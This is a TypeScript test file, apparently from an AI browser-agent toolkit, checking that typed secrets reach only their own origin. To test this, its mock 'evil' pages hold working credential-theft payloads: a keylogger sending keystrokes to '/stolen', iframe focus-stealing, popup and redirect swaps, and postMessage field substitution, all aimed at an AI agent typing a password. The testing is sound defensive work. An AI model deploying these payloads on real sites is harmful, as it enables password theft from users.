import { servePages } from '@btcp/test-support';
import { afterAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { freshBrowser } from './fresh-browser.ts';

const SECRET = 'Canary-Secret-Value-42';

// What other origins got to see.
const stolen: string[] = [];
let noteKey = () => {};
const firstKey = new Promise<void>((resolve) => {
  noteKey = resolve;
});

const LOGIN = `<title>Bank</title><form action="/signed-in"><label>Password <input id="password"></label></form>`;
const NOTE = `const note = (text) => navigator.sendBeacon('/stolen', text);
  addEventListener('keydown', ({ key }) => note(key), true);
  addEventListener('input', ({ target }) => note(target.value ?? target.textContent), true);`;

const bank = await servePages({
  '/': LOGIN,
  '/shouting': `${LOGIN}<script>password.oninput = () => { password.value = password.value.slice(1) + '!'; };</script>`,
  // Says when the first key has come.
  '/watched': `${LOGIN}<script>password.oninput = () => fetch('/typed');</script>`,
  '/typed': (_, response) => {
    response.end();
    noteKey();
  },
  '/signed-in': '<title>Signed in</title>',
  // Leads away while the keys are sent.
  '/leaving': `${LOGIN}<script>password.oninput = () => { location.href = '/away'; };</script>`,
  '/away': (_, response) => response.writeHead(302, { location: `${evil.origin}/trap` }).end(),
  // Lets any page that frames it have its field.
  '/lending': `${LOGIN}<script>addEventListener('message', () => { parent.postMessage('moved', '*'); password.remove(); });</script>`,
});
// By another name, so that it is of another site than the other pages.
const bankOrigin = bank.origin.replace('127.0.0.1', 'localhost');

const evil = await servePages({
  '/frames': `<title>Evil</title><input id="trap"><iframe src="${bankOrigin}/" width="400" height="200"></iframe>
    <script>${NOTE}
      const steal = () => trap.focus();
      addEventListener('blur', () => setTimeout(steal, 100));
    </script>`,
  '/opener': `<title>Evil</title><button onclick="
    const popup = open('${bankOrigin}/watched', 'bank', 'popup');
    fetch('/once-typed').then(() => { popup.location = '/trap'; });">Sign in</button>`,
  '/once-typed': (_, response) => void firstKey.then(() => response.end()),
  // The field of the login goes, and one of its own takes its place as soon as it is asked for.
  '/borrows': `<title>Evil</title><iframe src="${bankOrigin}/lending" width="400" height="100"></iframe><div id="place"></div>
    <script>${NOTE}
      addEventListener('message', () => { place.innerHTML = '<label>Password <input id="password"></label>'; password.focus(); });
      addEventListener('blur', () => frames[0].postMessage('lend', '*'));
    </script>`,
  '/trap': `<title>Trap</title><input id="trap" autofocus><script>${NOTE} setInterval(() => trap.focus(), 1);</script>`,
  '/stolen': (request, response) => {
    let text = '';
    request.on('data', (data) => (text += data)).on('end', () => stolen.push(text));
    response.end();
  },
});

const { call } = freshBrowser({}, { secrets: { bank: { value: SECRET, origin: bankOrigin } } });

beforeEach(() => {
  stolen.length = 0;
});
afterAll(async () => {
  await bank.close();
  await evil.close();
});

const refOf = (name: string) =>
  vi.waitFor(async () => {
    const [, ref] = new RegExp(`${name}.*@(\\w+)`).exec((await call('browser_snapshot')).text) ?? [];
    if (!ref) throw new Error('The frame has not loaded yet.');
    return `@${ref}`;
  });

describe('a secret reaches its origin or nobody (T12)', () => {
  test('browser_type sends no keys to a page that frames the login and takes the focus', async () => {
    await call('browser_navigate', { url: `${evil.origin}/frames` });
    const selector = await refOf('textbox "Password"');
    expect(selector).toMatch(/^@f/);
    await call('browser_type', { selector, text: 'secret:bank', delay: 30 }).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(stolen.join('')).toBe('');
  });

  test('browser_type sends nothing to the page that takes the place of the login meanwhile', async () => {
    await call('browser_navigate', { url: `${evil.origin}/opener` });
    await call('browser_click', { selector: 'button' });
    await call('browser_tabs', { action: 'select', tab: 't2' });
    const typing = call('browser_type', { selector: '#password', text: 'secret:bank', delay: 50 });
    const { text } = await typing.catch(({ message }) => ({ text: message }));
    await vi.waitFor(async () => expect((await call('browser_tabs')).page).toMatchObject({ title: 'Trap' }));
    expect(stolen.join('')).toBe('');
    expect(text).not.toMatch(/anary|Secret-V/);
  });

  test.each(['browser_type', 'browser_fill'])(
    '%s sends nothing on to where a redirect leads meanwhile',
    async (tool) => {
      await call('browser_navigate', { url: `${bankOrigin}/leaving` });
      const value = tool === 'browser_type' ? { text: 'secret:bank', delay: 30 } : { value: 'secret:bank' };
      await call(tool, { selector: '#password', ...value }).catch(() => {});
      await vi.waitFor(async () => expect((await call('browser_tabs')).page).toMatchObject({ title: 'Trap' }));
      expect(stolen.join('')).toBe('');
    },
  );

  test.each(['browser_type', 'browser_fill'])(
    '%s sends nothing to a field that takes the place of the one in the frame',
    async (tool) => {
      await call('browser_navigate', { url: `${evil.origin}/borrows` });
      const selector = await refOf('textbox "Password"');
      expect(selector).toMatch(/^@f/);
      const value = tool === 'browser_type' ? { text: 'secret:bank', delay: 30 } : { value: 'secret:bank' };
      await call(tool, { selector, ...value }).catch(() => {});
      // The page has had its chance when a later call is answered.
      await call('browser_evaluate', { script: 'new Promise((resolve) => setTimeout(resolve, 300))' });
      expect(stolen.join('')).toBe('');
    },
  );

  test.each(['browser_type', 'browser_fill'])('%s says nothing of what a page makes of it', async (tool) => {
    await call('browser_navigate', { url: `${bankOrigin}/shouting` });
    const value = tool === 'browser_type' ? { text: 'secret:bank' } : { value: 'secret:bank' };
    const { text, data } = await call(tool, { selector: '#password', ...value });
    const read = await call('browser_evaluate', { script: 'document.querySelector("#password").value' });
    const snapshot = await call('browser_snapshot');
    expect(JSON.stringify([text, data, read, snapshot])).not.toMatch(/anary|cret-V|alue-4/);
  });

  test('browser_type still signs in, with the key at the end', async () => {
    await call('browser_navigate', { url: `${bankOrigin}/` });
    await call('browser_type', { selector: '#password', text: 'secret:bank', submit: true });
    await call('browser_wait_for', { url: '**/signed-in*' });
    expect((await call('browser_tabs')).page).toMatchObject({ title: 'Signed in' });
  });
});
